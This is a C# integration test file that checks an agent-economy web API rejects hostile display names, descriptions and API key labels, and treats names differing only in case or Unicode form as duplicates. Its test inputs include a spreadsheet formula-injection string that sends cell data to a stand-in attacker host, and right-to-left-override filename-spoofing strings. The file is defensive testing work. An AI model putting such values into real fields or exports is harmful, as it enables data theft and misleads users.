using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using XpFlywheel.Web.Api;
using XpFlywheel.Web.Economy;
using XpFlywheel.Web.Tests.Integration;

namespace XpFlywheel.Web.Tests.Api;

/// <summary>
/// Names and descriptions others will read are checked where they enter: hostile text is refused with a 400 naming
/// the field and changes nothing, and names that only differ in case or Unicode form are the same name.
/// </summary>
public sealed class DisplayTextApiTests : IDisposable
{
    private readonly AppFactory _factory = new();

    public void Dispose() => _factory.Dispose();

    [Theory]
    [InlineData("bell\u0007\u0000name")]
    [InlineData("first line\nsecond line")]
    [InlineData("invoice\u202Etxt.exe")]
    [InlineData("zero\u200Bwidth")]
    [InlineData("\u3164")]
    [InlineData("Scout\u3164")]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"details\")")]
    [InlineData("...")]
    public async Task Hostile_agent_name_is_a_400_naming_the_field_and_registers_nothing(string name)
    {
        var client = await ApiClient.CreateAsync(_factory, $"names-{Guid.NewGuid():N}@test.local");

        var response = await client.Http.PostAsJsonAsync("/api/v1/agents", new { name, description = "fine" });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(("validation_failed", "invalid_name"), (problem.GetProperty("code").GetString(), problem.GetProperty("reason").GetString()));
        Assert.StartsWith("The name", problem.GetProperty("errors").GetProperty("name")[0].GetString());
        Assert.Empty((await client.Http.GetFromJsonAsync<List<AgentDto>>("/api/v1/agents"))!);
    }

    [Theory]
    [InlineData("ships\u202Efast")]
    [InlineData("ring\u0007ring")]
    public async Task Hostile_agent_description_is_a_400_naming_the_field(string description)
    {
        var client = await ApiClient.CreateAsync(_factory, $"descriptions-{Guid.NewGuid():N}@test.local");

        var response = await client.Http.PostAsJsonAsync("/api/v1/agents", new { name = "Courier", description });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(("validation_failed", "invalid_description"), (problem.GetProperty("code").GetString(), problem.GetProperty("reason").GetString()));
        Assert.True(problem.GetProperty("errors").TryGetProperty("description", out _));
        Assert.Empty((await client.Http.GetFromJsonAsync<List<AgentDto>>("/api/v1/agents"))!);
    }

    [Theory]
    [InlineData("école", "ÉCOLE")]
    [InlineData("\u00E9cole", "e\u0301cole")]
    [InlineData("e\u0301cole", "\u00C9COLE")]
    [InlineData("Ωmega  Works", "\u2126MEGA WORKS")]
    public async Task Names_that_differ_only_in_case_or_unicode_form_are_duplicates(string first, string second)
    {
        var client = await ApiClient.CreateAsync(_factory, $"dupes-{Guid.NewGuid():N}@test.local");

        var created = await client.Http.PostAsJsonAsync("/api/v1/agents", new { name = first });
        var duplicate = await client.Http.PostAsJsonAsync("/api/v1/agents", new { name = second });

        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, duplicate.StatusCode);
        Assert.Equal("duplicate_name", (await duplicate.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("code").GetString());
        Assert.Single((await client.Http.GetFromJsonAsync<List<AgentDto>>("/api/v1/agents"))!);
    }

    [Fact]
    public async Task Agent_name_and_description_are_stored_normalised()
    {
        var client = await ApiClient.CreateAsync(_factory, $"stored-{Guid.NewGuid():N}@test.local");

        var response = await client.Http.PostAsJsonAsync("/api/v1/agents", new { name = "  e\u0301cole   de  Paris ", description = "Line one\r\nLine two\r\n" });

        var agent = (await response.Content.ReadFromJsonAsync<AgentDto>())!;
        Assert.Equal(("\u00E9cole de Paris", "Line one\nLine two"), (agent.Name, agent.Description));
    }

    [Fact]
    public async Task Renaming_to_another_agents_name_in_another_case_is_a_duplicate()
    {
        var operatorId = await Operators.CreateAsync(_factory.Services, $"rename-{Guid.NewGuid():N}@test.local");
        var agents = _factory.Services.GetRequiredService<AgentService>();
        await agents.RegisterAsync(operatorId, "Ärger", null);
        var other = (await agents.RegisterAsync(operatorId, "Calm", null)).Value!;

        var renamed = await agents.RenameAsync(operatorId, other.Id, "ÄRGER");

        Assert.Equal(EconomyErrors.DuplicateName, renamed.Code);
        Assert.Equal("Calm", (await agents.FindAsync(other.Id))!.Name);
    }

    [Theory]
    [InlineData("bot\u202Egpj.exe")]
    [InlineData("two\nlines")]
    [InlineData("nul\u0000")]
    public async Task Hostile_api_key_label_is_refused_and_creates_no_key(string label)
    {
        var operatorId = await Operators.CreateAsync(_factory.Services, $"labels-{Guid.NewGuid():N}@test.local");
        var keys = _factory.Services.GetRequiredService<ApiKeyService>();

        var (key, error) = await keys.CreateAsync(operatorId, label);

        Assert.Null(key);
        Assert.StartsWith("The key name cannot contain U+", error);
        Assert.Empty(await keys.ListAsync(operatorId));
    }
}
